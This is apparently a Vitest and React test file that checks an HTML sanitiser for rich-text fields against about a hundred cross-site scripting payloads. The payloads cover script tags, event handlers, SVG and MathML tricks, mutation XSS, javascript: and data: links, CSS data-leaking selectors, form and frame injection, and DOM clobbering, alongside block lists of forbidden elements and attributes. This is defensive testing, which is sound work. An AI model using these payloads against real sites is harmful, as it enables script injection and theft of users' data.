import { flushSync } from 'react-dom';
import { createRoot, type Root } from 'react-dom/client';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { HtmlFailure } from './html-failure.ts';
import PlainText from './RichText/PlainText.tsx';
import { RichText } from './RichText/RichText.tsx';

declare global {
  interface Window {
    /** Set by any payload that runs. */
    pwned?: unknown;
  }
}

/** A host that does not exist: every request to it is observed. */
const ELSEWHERE = 'elsewhere.invalid';
const URL_ELSEWHERE = `https://${ELSEWHERE}/x`;
const RUN = 'window.pwned=1';
const RUN_TOP = 'top.pwned=1;parent.pwned=1;window.pwned=1';
const IMG = `<img src=x onerror=${RUN}>`;

type Payload = readonly [name: string, html: string];

const scripts: readonly Payload[] = [
  ['script', `<script>${RUN}</script>`],
  ['script in capitals', `<ScRiPt>${RUN}</sCrIpT>`],
  ['script from elsewhere', `<script src="${URL_ELSEWHERE}.js"></script>`],
  ['module script', `<script type="module">${RUN}</script>`],
  ['script within script', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['script without end', `<script>${RUN}//`],
  ['script with a slash', `<script/x>${RUN}</script/x>`],
  ['import map', `<script type="importmap">{"imports":{"react":"${URL_ELSEWHERE}"}}</script>`],
  ['script after a null', `<\u0000script>${RUN}</script>`],
  ['script in a comment that ends early', `<!--><script>${RUN}</script>-->`],
  ['script in a cdata section', `<![CDATA[<script>${RUN}</script>]]>`],
];

const handlers: readonly Payload[] = [
  ['onerror', IMG],
  ['onerror with slashes', `<img/src="x"/onerror=${RUN}>`],
  ['onerror behind a grave accent', `<img src=\`x\` onerror=${RUN}>`],
  ['onerror with a line break', `<img src=x onerror\n=\n"${RUN}">`],
  ['onerror with entities', '<img src=x onerror="&#119;indow.pwned&#61;1">'],
  ['onload', `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=${RUN}>`],
  ['onclick', `<p onclick=${RUN}>Toca</p>`],
  ['onfocus at once', `<a href="#" autofocus tabindex=0 onfocus=${RUN}>a</a>`],
  ['pointer events', `<div onpointerenter=${RUN} onpointerover=${RUN} onmouseover=${RUN}>a</div>`],
  ['ontoggle', `<details open ontoggle=${RUN}><summary>a</summary></details>`],
  ['onbeforetoggle', `<div popover id=p onbeforetoggle=${RUN}>a</div>`],
  ['onanimationstart', `<p style="animation:x 1s" onanimationstart=${RUN}>a</p>`],
  ['ontransitionend', `<p style="transition:all 1s" ontransitionend=${RUN}>a</p>`],
  ['onscroll', `<div onscroll=${RUN} onscrollend=${RUN}>a</div>`],
  ['marquee', `<marquee onstart=${RUN} loop=1>a</marquee>`],
  ['body', `<body onload=${RUN} onpageshow=${RUN}>a</body>`],
  ['video', `<video src=x onerror=${RUN}></video><audio src=x onerror=${RUN}></audio>`],
  ['source', `<video><source src=x onerror=${RUN}></video>`],
  ['content-visibility', `<p oncontentvisibilityautostatechange=${RUN}>a</p>`],
];

const namespaces: readonly Payload[] = [
  ['svg onload', `<svg onload=${RUN}></svg>`],
  ['svg script', `<svg><script>${RUN}</script></svg>`],
  ['svg script by address', `<svg><script href="data:text/javascript,${RUN}" /></svg>`],
  ['svg animate', `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`],
  [
    'svg link that turns',
    `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>a</text></a></svg>`,
  ],
  ['svg set', `<svg><set attributeName=onmouseover to="${RUN}"/><rect width=9 height=9 /></svg>`],
  ['svg foreignObject', `<svg><foreignObject>${IMG}</foreignObject></svg>`],
  ['svg desc', `<svg><desc>${IMG}</desc></svg>`],
  ['svg use', '<svg><use href="data:image/svg+xml,<svg id=x onload=window.pwned=1>#x" /></svg>'],
  ['svg image', `<svg><image href="${URL_ELSEWHERE}.png" onerror=${RUN} /></svg>`],
  ['svg feImage', `<svg><filter><feImage href="${URL_ELSEWHERE}.svg" /></filter></svg>`],
  ['svg style', `<svg><style>@import "${URL_ELSEWHERE}.css";</style></svg>`],
  ['mathml link', `<math href="javascript:${RUN}">a</math>`],
  ['mathml xlink', `<math><mi xlink:href="javascript:${RUN}">a</mi></math>`],
  [
    'mathml annotation',
    `<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`,
  ],
  ['mathml action', `<math><maction actiontype="statusline#${URL_ELSEWHERE}">a</maction></math>`],
];

const mutations: readonly Payload[] = [
  ['mglyph', `<math><mtext><table><mglyph><style><!--</style>${IMG.replace('<', '&lt;')}-->`],
  [
    'mglyph in a form',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style>`,
  ],
  ['noscript title', `<noscript><p title="</noscript>${IMG}"></noscript>`],
  ['style title', `<svg></p><style><a title="</style>${IMG}">`],
  ['textarea', `<textarea><p title="</textarea>${IMG}">`],
  ['title', `<title><a alt="</title>${IMG}">`],
  ['xmp', `<xmp><p title="</xmp>${IMG}">`],
  ['noembed', `<noembed><p title="</noembed>${IMG}">`],
  ['noframes', `<noframes><p title="</noframes>${IMG}">`],
  ['iframe text', `<iframe><p title="</iframe>${IMG}">`],
  ['plaintext', `<plaintext><p title="</plaintext>${IMG}">`],
  ['comment in an attribute', `<p alt="--><script>${RUN}</script>">a</p>`],
  ['comment ended by a bang', `<!-- --!>${IMG} -->`],
  ['comment in svg', `<svg><!--</svg>${IMG}-->`],
  ['select', `<select><template><style></select>${IMG}</style></template></select>`],
  ['table foster parent', `<table><svg><td><style></table>${IMG}</style></td></svg></table>`],
  ['nested past the limit', `${'<div>'.repeat(600)}<svg><style><a id="</style>${IMG}">`],
  ['grave accent that comes back', `<img alt="\`\`onerror=${RUN}" src=x>`],
  ['entity that comes back', '<p>&lt;img src=x onerror=window.pwned=1&gt;</p>'],
];

const styles: readonly Payload[] = [
  ['style attribute', '<p style="position:fixed;inset:0;z-index:9999">a</p>'],
  ['style attribute with an address', `<p style="background:url(${URL_ELSEWHERE}.png)">a</p>`],
  ['style attribute with expression', `<p style="width:expression(${RUN})">a</p>`],
  ['style attribute with javascript', `<p style="background:url(javascript:${RUN})">a</p>`],
  ['style attribute with binding', `<p style="-moz-binding:url(${URL_ELSEWHERE}.xml#x)">a</p>`],
  ['style', '<style>body{display:none}</style>'],
  ['style with import', `<style>@import url(${URL_ELSEWHERE}.css);</style>`],
  [
    'style that reads',
    `<style>input[value^="a"]{background:url(${URL_ELSEWHERE}?a)}</style><input value=abc>`,
  ],
  ['style with a font', `<style>@font-face{font-family:x;src:url(${URL_ELSEWHERE}.woff2)}</style>`],
  ['old background', `<table background="${URL_ELSEWHERE}.png"><tr><td>a</td></tr></table>`],
  ['class', '<p class="overlay">a</p>'],
];

const addresses: readonly Payload[] = [
  ['javascript', `<a href="javascript:${RUN}">a</a>`],
  ['javascript in capitals', `<a href="JaVaScRiPt:${RUN}">a</a>`],
  ['javascript with entities', `<a href="&#106;&#x61;vascript&colon;${RUN}">a</a>`],
  ['javascript with a tab', `<a href="java\tscript:${RUN}">a</a>`],
  ['javascript with a tab entity', `<a href="java&Tab;script:${RUN}">a</a>`],
  ['javascript with line breaks', `<a href="ja\nva\rscript\n:${RUN}">a</a>`],
  ['javascript after a blank', `<a href=" \u0001\u001f javascript:${RUN}">a</a>`],
  ['javascript after a hard blank', `<a href="\u00a0javascript:${RUN}">a</a>`],
  ['javascript after a zero width', `<a href="\u200bjavascript:${RUN}">a</a>`],
  ['javascript of an image', `<img src="javascript:${RUN}">`],
  ['javascript as a web address', `<a href="javascript://x/%0a${RUN}">a</a>`],
  ['data', `<a href="data:text/html,<script>${RUN_TOP}</script>">a</a>`],
  [
    'data in base64',
    '<a href="data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg">a</a>',
  ],
  ['vbscript', '<a href="vbscript:msgbox(1)">a</a>'],
  ['blob', '<a href="blob:https://elsewhere.invalid/1">a</a>'],
  ['file', '<a href="file:///etc/passwd">a</a>'],
  ['view-source', `<a href="view-source:${URL_ELSEWHERE}">a</a>`],
  ['intent', '<a href="intent://x#Intent;scheme=http;end">a</a>'],
  ['ping', `<a href="#" ping="${URL_ELSEWHERE}">a</a>`],
  ['srcset', `<img src="" srcset="${URL_ELSEWHERE}.png 1x">`],
  ['area', `<map name=m><area href="javascript:${RUN}"></map>`],
  ['image with javascript in xlink', `<a xlink:href="javascript:${RUN}">a</a>`],
];

const shadows: readonly Payload[] = [
  ['template', `<template>${IMG}</template>`],
  ['declarative shadow root', `<div><template shadowrootmode="open">${IMG}</template></div>`],
  ['slot', `<slot name=x onslotchange=${RUN}>a</slot>`],
  ['slot attribute', '<p slot="x" part="y" is="z-p" exportparts="y">a</p>'],
  ['custom element', `<x-evil onclick=${RUN}>a</x-evil>`],
];

const forms: readonly Payload[] = [
  ['form', `<form action="${URL_ELSEWHERE}"><input name=nip autofocus onfocus=${RUN}></form>`],
  ['button', `<button formaction="javascript:${RUN}">a</button>`],
  ['image input', `<input type=image src="${URL_ELSEWHERE}.png" onerror=${RUN}>`],
  ['hidden input', `<input type=hidden popover oncontentvisibilityautostatechange=${RUN}>`],
  ['select', `<select autofocus onfocus=${RUN}><option>a</select>`],
  ['textarea', `<textarea autofocus onfocus=${RUN}>a</textarea>`],
  ['editable', `<p contenteditable onbeforeinput=${RUN} accesskey=x>a</p>`],
  ['isindex', `<isindex action="javascript:${RUN}" type=image>`],
];

const frames: readonly Payload[] = [
  ['iframe', `<iframe src="${URL_ELSEWHERE}"></iframe>`],
  ['iframe with javascript', `<iframe src="javascript:${RUN_TOP}"></iframe>`],
  ['iframe with srcdoc', `<iframe srcdoc="<script>${RUN_TOP}</script>"></iframe>`],
  ['frameset', `<frameset onload=${RUN}><frame src="${URL_ELSEWHERE}"></frameset>`],
  ['object', `<object data="${URL_ELSEWHERE}" onerror=${RUN}></object>`],
  ['object with data', `<object data="data:text/html,<script>${RUN_TOP}</script>"></object>`],
  ['embed', `<embed src="javascript:${RUN_TOP}">`],
  ['applet', `<applet code="${URL_ELSEWHERE}"></applet>`],
  ['base', `<base href="https://${ELSEWHERE}/"><a href="ayuda">a</a>`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${URL_ELSEWHERE}">`],
  ['meta refresh with javascript', `<meta http-equiv="refresh" content="0;javascript:${RUN}">`],
  ['meta policy', `<meta http-equiv="Content-Security-Policy" content="default-src 'none'">`],
  ['stylesheet', `<link rel=stylesheet href="${URL_ELSEWHERE}.css" onerror=${RUN}>`],
  ['preload', `<link rel=preload as=script href="${URL_ELSEWHERE}.js">`],
  [
    'prefetch',
    `<link rel=dns-prefetch href="//${ELSEWHERE}"><link rel=prerender href=//x.invalid>`,
  ],
  ['portal', `<portal src="${URL_ELSEWHERE}"></portal><fencedframe></fencedframe>`],
  ['video poster', `<video poster="${URL_ELSEWHERE}.png" src="${URL_ELSEWHERE}.mp4"></video>`],
];

const clobbering: readonly Payload[] = [
  ['an id of window', '<a id="pwnedConfig" href="#a">a</a><a id="pwnedConfig">b</a>'],
  ['an id of the page', '<div id="root">a</div><div id="main">a</div>'],
  ['a name of document', '<img name="cookie"><img name="getElementById"><img name="body">'],
  ['the names of a form', '<form id=f><input name=attributes><input name=childNodes></form>'],
  ['the parent of a form', '<form><input name=parentNode><input name=nodeName></form>'],
  ['the name of a frame', `<iframe name=pwnedConfig srcdoc="<a id=x>"></iframe>`],
  ['prototype', '<a id="__proto__" name="constructor">a</a>'],
];

const attacks = {
  scripts,
  handlers,
  namespaces,
  mutations,
  styles,
  addresses,
  shadows,
  forms,
  frames,
  clobbering,
};

/** Elements that run, style, send requests, embed, collect or hide; any element of another namespace counts too. */
const FORBIDDEN_ELEMENTS = new Set(
  `script style link meta base title iframe frame frameset noframes object embed applet
  param portal fencedframe form input button select option textarea datalist output isindex template slot noscript
  noembed xmp plaintext video audio source track canvas map area svg math marquee details dialog body html head
  x-evil`.split(/\s+/),
);
const FORBIDDEN_ATTRIBUTES =
  /^(on.*|style|class|id|name|is|slot|part|exportparts|form.*|action|srcdoc|srcset|data.*|background|poster|ping|xlink:.*|http-equiv|contenteditable|autofocus|tabindex|accesskey|popover.*|shadowroot.*)$/;
const SAFE_SCHEMES = ['http:', 'https:', 'mailto:', 'tel:'];
/** Events that a leftover attribute would handle. */
const EVENTS = ['click', 'focus', 'pointerover', 'mouseover', 'toggle', 'error', 'load', 'scroll'];

const requested: string[] = [];
const observer = new PerformanceObserver((list) => {
  for (const { name } of list.getEntries()) if (name.includes('.invalid')) requested.push(name);
});
let container: HTMLElement;
let root: Root;
let left = false;
let bodyDisplay: string;
let start: string;
const note = () => {
  left = true;
};

const rest = (ms: number) => new Promise((done) => setTimeout(done, ms));

function show(html: string): void {
  flushSync(() => root.render(<RichText html={html} field="Faq.answer" />));
}

/** An element's namespace, name and attributes: everything but its text. */
function excessOf(element: Element): string[] {
  const found: string[] = [];
  if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml')
    found.push(`${element.namespaceURI}`);
  if (FORBIDDEN_ELEMENTS.has(element.localName)) found.push(element.localName);
  // Our own element around each text has a class for its styles.
  if (element.parentElement?.closest('[class]') === null) return found;
  return [
    ...found,
    ...element.getAttributeNames().filter((name) => FORBIDDEN_ATTRIBUTES.test(name)),
  ];
}

function expectOnlyText(): void {
  // One assertion for all: a text may hold tens of thousands of elements.
  expect([...container.querySelectorAll('*')].flatMap(excessOf)).toEqual([]);
  for (const link of container.querySelectorAll<HTMLAnchorElement>('a[href]')) {
    expect(SAFE_SCHEMES, link.href).toContain(new URL(link.href).protocol);
    expect(link.target).toBe('_blank');
    expect(link.rel.split(' ')).toContain('noopener');
  }
  for (const { src } of container.querySelectorAll('img[src]') as NodeListOf<HTMLImageElement>)
    expect(src).toMatch(/^(https?:|data:image\/|$)/);
}

function provoke(): void {
  for (const element of container.querySelectorAll('*')) {
    for (const type of EVENTS) {
      element.dispatchEvent(new Event(type, { bubbles: false, cancelable: true }));
    }
  }
}

function expectNothingHappened(): void {
  expect(window.pwned, 'something ran').toBeUndefined();
  expect('pwnedConfig' in window, 'a global was made').toBe(false);
  expect(left, 'the page was left').toBe(false);
  expect(location.href).toBe(start);
  expect(requested, 'another host was asked').toEqual([]);
  expect(window.fetch).not.toHaveBeenCalled();
  expect(window.open).not.toHaveBeenCalled();
  expect(navigator.sendBeacon).not.toHaveBeenCalled();
  expect(XMLHttpRequest.prototype.open).not.toHaveBeenCalled();
  expect(getComputedStyle(document.body).display).toBe(bodyDisplay);
  expect(document.baseURI).toBe(start);
}

beforeAll(async () => {
  start = location.href;
  bodyDisplay = getComputedStyle(document.body).display;
  observer.observe({ type: 'resource' });
  window.addEventListener('beforeunload', note);
  window.addEventListener('pagehide', note);
  container = document.createElement('main');
  document.body.append(container);
  root = createRoot(container);
  // The sanitiser is fetched once; from then on a text is in place as soon as it is rendered.
  show('<p><strong>Listo</strong></p>');
  await vi.waitFor(() => expect(container.querySelector('strong')).not.toBeNull(), 20_000);
});

beforeEach(() => {
  requested.length = 0;
  delete window.pwned;
  vi.spyOn(window, 'fetch');
  vi.spyOn(window, 'open').mockReturnValue(null);
  vi.spyOn(navigator, 'sendBeacon');
  vi.spyOn(XMLHttpRequest.prototype, 'open');
});

afterEach(() => {
  vi.restoreAllMocks();
  show('');
});

afterAll(() => {
  root.unmount();
  container.remove();
  observer.disconnect();
  window.removeEventListener('beforeunload', note);
  window.removeEventListener('pagehide', note);
});

describe('what would tell of a hole', () => {
  it('sees what runs and what is asked for without the sanitiser', async () => {
    const raw = document.createElement('div');
    raw.innerHTML = `${IMG}<img src="${URL_ELSEWHERE}.png">`;
    document.body.append(raw);
    await vi.waitFor(() => {
      expect(window.pwned).toBe(1);
      expect(requested).toEqual([`${URL_ELSEWHERE}.png`]);
    }, 5000);
    raw.remove();
  });

  it('is tried often enough', () => {
    expect(Object.values(attacks).flat().length).toBeGreaterThanOrEqual(60);
  });
});

describe.each(Object.entries(attacks))('html with %s', (_kind, payloads) => {
  it.each(payloads)('%s', async (_name, html) => {
    show(`<p>Antes</p>${html}`);
    expect(container.textContent).toContain('Antes');
    expectOnlyText();
    provoke();
    await rest(80);
    expectNothingHappened();
    expectOnlyText();
  });
});

it('all of it side by side, for longer', async () => {
  const all = Object.values(attacks).flat();
  flushSync(() =>
    root.render(
      <div>
        {all.map(([, html]) => (
          <RichText key={html} html={`<p>Antes</p>${html}`} field="Faq.answer" />
        ))}
      </div>,
    ),
  );
  expect(container.textContent?.match(/Antes/g)?.length).toBeGreaterThanOrEqual(all.length);
  provoke();
  await rest(1500);
  expectNothingHappened();
  expectOnlyText();
});

describe('html of which nothing can be shown', () => {
  it.each<Payload>([
    ['a frameset in place of the body', `<div><frameset onload=${RUN}>//</div>`],
    ['a frameset alone', `<frameset onload=${RUN}>`],
    ['a frameset after blanks', `\n <div> <frameset><frame src="${URL_ELSEWHERE}"></frameset>`],
    ['a frameset in a head', `<html><head></head><frameset rows=* onload=${RUN}>`],
  ])('%s', async (_name, html) => {
    const report = vi.fn<(field: string) => void>();
    for (const Text of [RichText, PlainText]) {
      report.mockClear();
      flushSync(() =>
        root.render(
          <HtmlFailure value={report}>
            <p>Antes</p>
            <Text html={html} field="Faq.answer" topHeading={3} />
            <RichText html="<p>Después</p>" field="Faq.answer" />
          </HtmlFailure>,
        ),
      );
      expect(container.textContent).toBe('AntesDespués');
      expect(report.mock.calls.every(([field]) => field === 'Faq.answer')).toBe(true);
    }
    provoke();
    await rest(80);
    expectNothingHappened();
    expectOnlyText();
  });

  it('is told once, and a text that follows in its place is shown', () => {
    const report = vi.fn<(field: string) => void>();
    const draw = (html: string) =>
      flushSync(() =>
        root.render(
          <HtmlFailure value={report}>
            <RichText html={html} field="Material.content" />
          </HtmlFailure>,
        ),
      );
    draw('<p>Uno</p>');
    draw(`<div><frameset onload=${RUN}>//</div>`);
    expect(container.textContent).toBe('');
    expect(report.mock.calls).toEqual([['Material.content']]);
    draw('<p>Dos</p>');
    expect(container.textContent).toBe('Dos');
    expect(report).toHaveBeenCalledTimes(1);
  });
});

describe('200 kB', () => {
  it.each<Payload>([
    ['of words', 'Texto sin fin. '.repeat(13_500)],
    ['of paragraphs', '<p>Texto sin fin.</p>'.repeat(9600)],
    ['of one word', 'a'.repeat(200_000)],
    ['of tags that open', '<b>'.repeat(66_000)],
    ['of elements in elements', '<div>'.repeat(40_000)],
    ['of angle brackets', '<'.repeat(200_000)],
    ['of pictures that fail', IMG.repeat(5000)],
    ['of one attribute', `<p title="${'x'.repeat(200_000)}" onclick=${RUN}>a</p>`],
    ['of comments', '<!--'.repeat(50_000)],
  ])('%s', async (_name, html) => {
    show(`<p>Antes</p>${html}`);
    expect(container.textContent).toContain('Antes');
    await rest(80);
    expectNothingHappened();
    expectOnlyText();
  });
});

describe('what does no harm', () => {
  it.each(['p', 'ul', 'ol', 'li', 'strong', 'em', 'blockquote', 'table', 'td', 'code', 'h3'])(
    '%s stays',
    (name) => {
      show(
        '<h1>Título</h1><p>Uno <strong>dos</strong> <em>tres</em></p><ul><li>a</li></ul><ol start="3"><li>b</li></ol><blockquote>c</blockquote><table><tr><td>d</td></tr></table><code>e</code>',
      );
      expect(container.querySelector(name)).not.toBeNull();
    },
  );

  it('a link opens in a new tab, without access to this one', () => {
    show('<a href="https://example.com/guia" target="_self" rel="opener">Guía</a>');
    const link = container.querySelector('a');
    expect(link?.textContent).toContain('Guía');
    expect(link?.getAttribute('href')).toBe('https://example.com/guia');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toBe('noopener noreferrer');
  });

  it.each(['mailto:ayuda@example.com', 'tel:+525512345678', '#/vault', '/ayuda'])(
    'a link to %s stays',
    (address) => {
      show(`<a href="${address}">a</a>`);
      expect(container.querySelector('a')?.getAttribute('href')).toBe(address);
    },
  );

  it('a picture over https stays and tells no one where it is shown', () => {
    show(`<img src="${URL_ELSEWHERE}.png" alt="Licuadora" width="40">`);
    const image = container.querySelector('img');
    expect(image?.getAttribute('src')).toBe(`${URL_ELSEWHERE}.png`);
    expect(image?.alt).toBe('Licuadora');
    expect(image?.referrerPolicy).toBe('no-referrer');
    expect(image?.loading).toBe('lazy');
  });

  it('words that look like html stay words', () => {
    show('<p>3 &lt; 5 &amp; &lt;script&gt;</p>');
    expect(container.textContent).toContain('3 < 5 & <script>');
  });
});
